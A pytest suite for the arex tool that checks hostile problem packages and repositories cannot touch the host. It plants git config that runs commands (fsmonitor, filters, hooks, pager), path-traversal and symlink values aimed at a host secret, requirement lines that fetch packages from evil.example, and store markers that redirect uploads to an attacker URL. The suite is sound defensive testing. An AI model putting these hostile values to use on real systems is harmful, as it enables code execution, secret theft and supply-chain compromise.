"""Sources are data, never host access (issue 26): each test is an attack a hostile problem package
or repository made on arex, driven the way it was made (`arex build-envs`, the draft's checkout,
a remote store's mirror), and each shows that nothing of the host is read, written or run.

Real parts: git repositories made with the git command line, the CLI in-process, fsspec's memory
filesystem as the remote store. No test here needs the Docker engine: every attack is stopped
before an image or a sandbox would be involved."""

from __future__ import annotations

import json
import os
import subprocess
import uuid
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from arex.cli import app
from arex.envs.judge_sources import SourceError
from arex.envs.ml_images import requirement_lines
from arex.envs.ml_source import worktree
from arex.specs import MLSpec

runner = CliRunner()
SECRET = "host-secret-4c1f9e"
"""The content of the host files the attacks try to read: it must appear in no output."""


@pytest.fixture(autouse=True)
def cache(tmp_path, monkeypatch):
    monkeypatch.setenv("AREX_CACHE", str(tmp_path / "cache"))
    return tmp_path / "cache"


def write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    return root


def git(folder: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=folder, check=True, capture_output=True, text=True).stdout


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


def build(sources: list[Path], out: Path, *options: str):
    """`arex build-envs` as a user runs it; its output and the saved build report's rows."""
    result = runner.invoke(app, ["build-envs", *map(str, sources), "--out", str(out), *options])
    assert "Traceback" not in result.output, result.output
    report = json.loads((out / "build-report.json").read_text())
    return result, report["envs"]


# -- 1. a repository's git configuration runs nothing ---------------------------------------------
ML_SPEC = {
    "id": "hostile-git",
    "title": "t",
    "run": "python3 train.py",
    "statement": "NOPE.md",
    "metric": {"name": "rmse", "direction": "minimize"},
    "data": {"table": "data.csv", "target": "y"},
}
"""A spec naming a statement that is not there: the build stops right after the listing, so these
tests need no engine, and the listing (where git ran the repository's commands) has happened."""


def marker_command(markers: Path, name: str) -> str:
    """A shell command that leaves `markers/name` behind if git ever runs it (passing stdin on, as a filter must)."""
    return f"sh -c 'touch {markers / name}; cat' #"


def hostile_repo(root: Path, markers: Path, attack: str) -> Path:
    """A committed repository whose own configuration names a command for git to run while it lists
    the tree, and a working tree with an untracked file, an ignored one and a touched tracked one."""
    markers.mkdir(parents=True, exist_ok=True)
    folder = write(
        root,
        {
            "arex.yaml": yaml.safe_dump(ML_SPEC),
            "data.csv": "x,y\n1,2\n",
            "train.py": "print(1)\n",
            ".gitignore": "scratch/\n",
            ".gitattributes": "* filter=evil diff=evil\n",
        },
    )
    git(folder, "init", "-q", "-b", "main")
    git(folder, "-c", "user.name=t", "-c", "user.email=t@t", "add", "-A")
    git(folder, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "initial")
    write(folder, {"notes.md": "untracked\n", "scratch/big.bin": "ignored\n"})
    os.utime(folder / "train.py", (1, 1))  # same content, new time: git compares it, through the filter
    hooks = markers.parent / "hooks"
    hooks.mkdir(exist_ok=True)
    for hook in ("post-index-change", "reference-transaction", "post-checkout", "pre-auto-gc", "fsmonitor-watchman"):
        (hooks / hook).write_text(f"#!/bin/sh\ntouch {markers / hook}\n")
        (hooks / hook).chmod(0o755)
    settings = {
        "fsmonitor": [("core.fsmonitor", marker_command(markers, "fsmonitor"))],
        "filter": [
            (f"filter.evil.{kind}", marker_command(markers, f"filter-{kind}"))
            for kind in ("clean", "smudge", "process")
        ],
        "include": [("include.path", str(_included(markers)))],
        "includeIf": [("includeIf.gitdir:/.path", str(_included(markers)))],
        "hooks": [("core.hooksPath", str(hooks))],
        "commands": [
            ("diff.evil.textconv", marker_command(markers, "textconv")),
            ("diff.external", marker_command(markers, "external")),
            ("core.pager", marker_command(markers, "pager")),
            ("core.sshCommand", marker_command(markers, "ssh")),
            ("core.askPass", marker_command(markers, "askpass")),
            ("core.editor", marker_command(markers, "editor")),
        ],
    }[attack]
    for key, value in settings:
        git(folder, "config", "--add", key, value)
    return folder


def _included(markers: Path) -> Path:
    """A config file elsewhere on the host that sets fsmonitor: git reads it through an include."""
    path = markers.parent / "included.cfg"
    git(
        markers.parent, "config", "--file", str(path), "core.fsmonitor", marker_command(markers, "included-fsmonitor")
    )  # quoted as git writes it
    return path


ATTACKS = ["fsmonitor", "filter", "include", "includeIf", "hooks", "commands"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_repository_config_runs_nothing_when_build_envs_lists_a_local_repo(tmp_path, attack):
    markers = tmp_path / "markers"
    folder = hostile_repo(tmp_path / "repo", markers, attack)
    result, [row] = build([folder], tmp_path / "out")
    assert row["status"] == "rejected" and "field 'statement' names 'NOPE.md'" in row["reason"], (
        row
    )  # listed, then stopped
    assert sorted(p.name for p in markers.iterdir()) == [], f"git ran the repository's {attack} command on the host"


@pytest.mark.parametrize("attack", ATTACKS)
def test_repository_config_runs_nothing_when_draft_env_reads_a_local_repo(tmp_path, attack):
    from arex.drafting.run import checkout

    markers = tmp_path / "markers"
    folder = hostile_repo(tmp_path / "repo", markers, attack)
    where = checkout(str(folder))  # what `arex draft-env <folder>` reads the repository with
    listed = {p.relative_to(where.folder).as_posix() for p in files_under(where.folder)}
    assert listed == {"arex.yaml", "data.csv", "train.py", ".gitignore", ".gitattributes", "notes.md"}
    assert sorted(p.name for p in markers.iterdir()) == [], f"git ran the repository's {attack} command on the host"


def test_the_listing_is_still_the_users_working_tree(tmp_path, monkeypatch):
    """Tracked files with their edits, untracked ones, deleted and ignored ones left out; the user's
    own global ignore file still applies (a file they ignore everywhere stays out of the env)."""
    home = tmp_path / "home"
    write(home, {".gitignore_global": "*.secret\n"})
    (home / ".gitconfig").write_text(f"[core]\n\texcludesFile = {home / '.gitignore_global'}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    folder = hostile_repo(tmp_path / "repo", tmp_path / "markers", "fsmonitor")
    head = git(folder, "rev-parse", "HEAD").strip()
    write(folder, {"api.secret": "token\n", "data.csv": "x,y\n1,3\n"})
    (folder / ".gitignore").unlink()  # a tracked file deleted
    commit, files = worktree(folder)
    assert commit == f"{head}+worktree"
    assert set(files) == {"arex.yaml", "data.csv", "train.py", ".gitattributes", "notes.md", "scratch/big.bin"}
    assert list((tmp_path / "markers").iterdir()) == []
    git(
        folder, "-c", "core.fsmonitor=false", "checkout", "-q", "--", ".gitignore"
    )  # as committed: scratch/ ignored again
    assert set(worktree(folder)[1]) == {
        "arex.yaml",
        "data.csv",
        "train.py",
        ".gitignore",
        ".gitattributes",
        "notes.md",
    }
    assert list((tmp_path / "markers").iterdir()) == []


def test_a_linked_worktree_is_listed_without_its_repository_config(tmp_path):
    """`.git` as a file (`git worktree add`, submodules): the same private reading, through its common folder."""
    markers = tmp_path / "markers"
    folder = hostile_repo(tmp_path / "repo", markers, "fsmonitor")
    git(
        folder, "-c", "core.fsmonitor=false", "worktree", "add", "-q", str(tmp_path / "linked")
    )  # the test's own git: not attacked
    write(tmp_path / "linked", {"extra.txt": "new\n"})
    commit, files = worktree(tmp_path / "linked")
    assert commit.endswith("+worktree") and {"arex.yaml", "train.py", "extra.txt"} <= set(files)
    assert list(markers.iterdir()) == []


def test_a_named_commit_of_a_local_repo_is_fetched_without_running_its_config(tmp_path):
    """`repo: <folder>` with `commit:` is fetched over file://; upload-pack reads the repository's
    config, and nothing in it runs either (a guard: git itself refuses this one)."""
    markers = tmp_path / "markers"
    folder = hostile_repo(tmp_path / "repo", markers, "hooks")
    for key, value in [
        ("core.fsmonitor", marker_command(markers, "fsmonitor")),
        ("uploadpack.packObjectsHook", marker_command(markers, "pack")),
    ]:
        git(folder, "config", key, value)
    source = tmp_path / "pinned.yaml"
    source.write_text(yaml.safe_dump({"repo": str(folder), "commit": git(folder, "rev-parse", "HEAD").strip()}))
    result, [row] = build([source], tmp_path / "out")
    assert "field 'statement' names 'NOPE.md'" in row["reason"], row
    assert list(markers.iterdir()) == []


# -- 2. every path a spec names stays inside its source ----------------------------------------------
ADD_PY = "a, b = map(int, input().split())\nprint(a + b)\n"


def arex_problem(folder: Path, **task) -> Path:
    """An arex problem folder (task.yaml, statement, tests, an accepted solution)."""
    spec = {
        "id": "leaky",
        "title": "Leaky",
        "time_limit_s": 2,
        "solutions": [{"path": "solutions/add.py", "expected": "accepted"}],
        **task,
    }
    return write(
        folder,
        {
            "task.yaml": yaml.safe_dump(spec),
            "statement.md": "Add two integers.\n",
            "solutions/add.py": ADD_PY,
            "private/tests/sample-1.in": "1 2\n",
            "private/tests/sample-1.ans": "3\n",
            "private/tests/main-1.in": "2 2\n",
            "private/tests/main-1.ans": "4\n",
        },
    )


def host_files(tmp_path: Path) -> Path:
    """A folder of the host's with a secret and a program, outside every source."""
    return write(
        tmp_path / "hostdir",
        {"secret.txt": SECRET + "\n", "check.py": "import sys\nsys.exit(42)\n", "more/keys.txt": SECRET},
    )


def assert_contained(result, row, out: Path, before: set[Path], tmp_path: Path, *reason: str) -> None:
    """Rejected with the one-sentence reason, no host byte in any output, nothing written outside --out."""
    assert row["status"] == "rejected", row
    for part in reason:
        assert part in row["reason"], row["reason"]
    assert row["reason"].count(". ") == 0 and "Traceback" not in result.output
    assert not [p for p in files_under(out) if p.is_file() and SECRET.encode() in p.read_bytes()]
    new = {
        p
        for p in files_under(tmp_path) - before
        if not p.is_relative_to(out) and not p.is_relative_to(tmp_path / "cache")
    }
    assert new == set(), f"written outside --out: {sorted(map(str, new))}"


@pytest.mark.parametrize("statement", ["../../../hostdir/secret.txt", "ABSOLUTE"])
def test_a_statement_path_out_of_the_problem_is_refused(tmp_path, statement):
    hostdir = host_files(tmp_path)
    statement = str(hostdir / "secret.txt") if statement == "ABSOLUTE" else statement
    source = arex_problem(tmp_path / "x" / "y" / "leaky", statement=statement)
    out, before = tmp_path / "o1" / "o2", files_under(tmp_path)
    result, [row] = build([source], out)
    escape = "is an absolute path" if statement.startswith("/") else "climbs out of the folder with '..'"
    assert_contained(
        result,
        row,
        out,
        before,
        tmp_path,
        f"{source / 'task.yaml'}: key 'statement' names '{statement}', which {escape}",
        "name a file inside",
    )


def test_a_checker_source_out_of_the_problem_copies_no_host_folder(tmp_path):
    """`checker.source: ../../../../hostdir/check.py` copied the whole host folder into the env and,
    through the same `..`, wrote it outside the env folder (here: beside --out)."""
    host_files(tmp_path)
    source = arex_problem(
        tmp_path / "x" / "y" / "leaky", checker={"kind": "kattis", "source": "../../../../hostdir/check.py"}
    )
    out, before = tmp_path / "o1" / "o2", files_under(tmp_path)
    result, [row] = build([source], out)
    assert_contained(
        result,
        row,
        out,
        before,
        tmp_path,
        "key 'checker.source' names '../../../../hostdir/check.py', which climbs out",
    )
    assert not (tmp_path / "o1" / "hostdir").exists()


@pytest.mark.parametrize("link", ["statement.md", "private/tests/main-1.ans", "solutions/add.py", "private/checker"])
def test_a_symlink_out_of_the_problem_is_refused(tmp_path, link):
    hostdir = host_files(tmp_path)
    source = arex_problem(tmp_path / "x" / "leaky", checker={"kind": "kattis", "source": "checker/check.py"})
    write(source, {"private/checker/check.py": "import sys\nsys.exit(42)\n"})
    target = hostdir if link == "private/checker" else hostdir / "secret.txt"
    path = source / link
    if path.is_dir():
        for child in path.iterdir():
            child.unlink()
        path.rmdir()
    else:
        path.unlink()
    path.symlink_to(target)
    out, before = tmp_path / "out", files_under(tmp_path)
    result, [row] = build([source], out)
    assert_contained(
        result, row, out, before, tmp_path, f"{source / link}: a symbolic link to {target}, outside the source folder"
    )


def test_a_kattis_statement_linked_out_of_the_package_is_refused(tmp_path):
    hostdir = host_files(tmp_path)
    source = write(
        tmp_path / "pkg",
        {
            "problem.yaml": "name: Add\n",
            "data/sample/1.in": "1 2\n",
            "data/sample/1.ans": "3\n",
            "data/secret/1.in": "2 2\n",
            "data/secret/1.ans": "4\n",
            "submissions/accepted/add.py": ADD_PY,
        },
    )
    (source / "problem_statement").mkdir()
    (source / "problem_statement" / "problem.en.md").symlink_to(hostdir / "secret.txt")
    out, before = tmp_path / "out", files_under(tmp_path)
    result, [row] = build([source], out)
    assert_contained(
        result, row, out, before, tmp_path, "problem.en.md: a symbolic link to", "outside the source folder"
    )


def test_a_frontier_checker_out_of_the_problem_is_refused(tmp_path):
    host_files(tmp_path)
    source = write(
        tmp_path / "fr",
        {
            "statement.txt": "# T\nPrint x.\n",
            "testdata/1.in": "5\n",
            "testdata/1.ans": "5\n",
            "config.yaml": "type: default\nchecker: ../hostdir/check.py\ntime: 1s\nmemory: 256m\n"
            "subtasks:\n  - n_cases: 1\n",
        },
    )
    out, before = tmp_path / "out", files_under(tmp_path)
    result, [row] = build([source], out)
    assert_contained(
        result, row, out, before, tmp_path, "config.yaml: key 'checker' names '../hostdir/check.py', which climbs out"
    )


ML_FILES = {
    "data.csv": "x,y\n" + "".join(f"{i},{2 * i}\n" for i in range(40)),
    "train.py": "print(1)\n",
    "README.md": "Predict y.\n",
}


def ml_folder(folder: Path, **spec) -> Path:
    raw = {**ML_SPEC, "id": "leaky-ml", "statement": "README.md", **spec}
    return write(folder, {**ML_FILES, "arex.yaml": yaml.safe_dump(raw)})


@pytest.mark.parametrize(
    "key, value",
    [
        ("statement", "../hostdir/secret.txt"),
        ("statement", "ABSOLUTE"),
        ("data.table", "ABSOLUTE"),
        ("data.train_file", "../../train.csv"),
        ("requirements_file", "../hostdir/secret.txt"),
        ("protected", ["../hostdir/secret.txt"]),
    ],
)
def test_an_ml_spec_path_out_of_the_repository_is_refused(tmp_path, key, value):
    hostdir = host_files(tmp_path)
    value = str(hostdir / "secret.txt") if value == "ABSOLUTE" else value
    spec = {"data": {**ML_SPEC["data"], key.split(".")[1]: value}} if key.startswith("data.") else {key: value}
    source = ml_folder(tmp_path / "repo", **spec)
    out, before = tmp_path / "out", files_under(tmp_path)
    result, [row] = build([source], out)
    shown = f"{key}.0" if isinstance(value, list) else key
    assert_contained(result, row, out, before, tmp_path, f"'{shown}' cannot be", "name a file inside the source folder")


def test_an_ml_repository_with_a_link_out_of_it_is_refused(tmp_path):
    hostdir = host_files(tmp_path)
    source = ml_folder(tmp_path / "repo")
    (source / "notes.md").symlink_to(hostdir / "secret.txt")
    out, before = tmp_path / "out", files_under(tmp_path)
    result, [row] = build([source], out)
    assert_contained(
        result, row, out, before, tmp_path, f"{source}/notes.md: a symbolic link to {hostdir / 'secret.txt'}"
    )


@pytest.mark.parametrize(
    "fields, reason",
    [
        ({"spec": "../hostdir/spec.yaml"}, "key 'spec' names '../hostdir/spec.yaml', which climbs out"),
        (
            {"add": {"notes.md": "../hostdir/secret.txt"}},
            "key 'add.notes.md' names '../hostdir/secret.txt', which climbs out",
        ),
    ],
)
def test_an_ml_source_yaml_takes_no_host_file(tmp_path, fields, reason):
    """A source YAML's `spec` and `add` files are read beside it, in its folder, never anywhere on the host."""
    host_files(tmp_path)
    write(tmp_path / "hostdir", {"spec.yaml": yaml.safe_dump({**ML_SPEC, "statement": "README.md"})})
    ml_folder(tmp_path / "sources" / "repo")
    source = tmp_path / "sources" / "leaky.yaml"
    source.write_text(yaml.safe_dump({"repo": "repo", **fields}))
    out, before = tmp_path / "out", files_under(tmp_path)
    result, [row] = build([source], out)
    assert_contained(result, row, out, before, tmp_path, reason)


# -- 3. requirement lines may not choose where packages come from ---------------------------------
def _spec(**overrides) -> MLSpec:
    return MLSpec.model_validate({**ML_SPEC, **overrides})


SOURCE_LINES = [
    "--index-url https://evil.example/simple",
    "-i https://evil.example/simple",
    "--index-url=https://evil.example/simple",
    "--extra-index-url https://evil.example/simple",
    "--trusted-host evil.example",
    "-f https://evil.example/links",
    "--find-links=https://evil.example/links",
    "six @ https://evil.example/six-1.0-py3-none-any.whl",
    "git+https://evil.example/six.git",
    "-e git+https://evil.example/six.git#egg=six",
    "-r https://evil.example/requirements.txt",
    "https://evil.example/six-1.0.tar.gz",
]


@pytest.mark.parametrize("line", SOURCE_LINES)
def test_a_requirement_line_choosing_a_package_source_needs_the_users_opt_in(tmp_path, line):
    (tmp_path / "requirements.txt").write_text(f"numpy==1.26.4\n{line}\n")
    spec = _spec(requirements_file="requirements.txt")
    with pytest.raises(SourceError) as exc:
        requirement_lines(spec, tmp_path)
    message = str(exc.value)
    assert message.startswith(f"requirements.txt line 2: '{line}' ") and "'build.package_sources: true'" in message, (
        message
    )
    assert message.count(". ") == 0
    assert len(requirement_lines(spec, tmp_path, package_sources=True)) == 2  # the user allowed it


def test_a_spec_requirement_choosing_a_url_is_refused_too():
    with pytest.raises(
        SourceError,
        match=r"the spec's 'requirements' item 2: 'six @ https://evil.example/six.whl' installs from a URL",
    ):
        requirement_lines(_spec(requirements=["numpy", "six @ https://evil.example/six.whl"]), Path("."))
    assert requirement_lines(_spec(requirements=["numpy>=1", "Six==1.16"]), Path(".")) == ["numpy>=1", "six==1.16"]


def test_build_envs_reports_the_line_and_the_opt_in_key(tmp_path):
    source = ml_folder(tmp_path / "repo", requirements_file="requirements.txt")
    write(source, {"requirements.txt": "six==1.16.0\n--extra-index-url https://evil.example/simple\n"})
    result, [row] = build([source], tmp_path / "out")
    assert row["status"] == "rejected", row
    assert (
        "requirements.txt line 2: '--extra-index-url https://evil.example/simple' adds a package index" in row["reason"]
    )
    assert "-c build.package_sources=true" in row["reason"]


def test_the_opt_in_key_is_an_explained_config_value(tmp_path):
    result = runner.invoke(app, ["config", "show", "-c", "build.package_sources=sometimes"])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "'build.package_sources'" in result.output


# -- 4. a remote store's markers are arex's own, never taken from the store ------------------------
def test_a_stored_marker_or_lock_at_any_depth_is_never_mirrored(tmp_path):
    """A `.arex-url` inside the store would make `url_of` send a folder's uploads to a URL of the
    store's choosing; a `.arex-lock` would look like a run of this machine's holding the store."""
    import fsspec

    from arex.record.url_store import Remote, UrlStoreError, opened, url_of

    url = f"memory://arex-safety-{uuid.uuid4().hex[:8]}/store"
    fs = fsspec.filesystem("memory")
    root = url.removeprefix("memory://")
    planted = ["runs/.arex-url", "runs/env/deep/.arex-url", "runs/env/.arex-lock", "runs/env/rollout.lock"]
    for rel in planted:
        fs.pipe_file(f"{root}/{rel}", b"memory://attacker/loot\n")
    fs.pipe_file(f"{root}/runs/env/r1.jsonl", b'{"type": "header"}\n')
    with opened(url, write=False) as mirror:
        assert (mirror / "runs" / "env" / "r1.jsonl").is_file()
        assert [rel for rel in planted if (mirror / rel).exists()] == []
        assert url_of(mirror / "runs" / "env" / "deep") == url
        with pytest.raises(UrlStoreError, match="is not a file arex stores"):
            Remote(url, read_only=True).fetch("runs/env/deep/.arex-url")
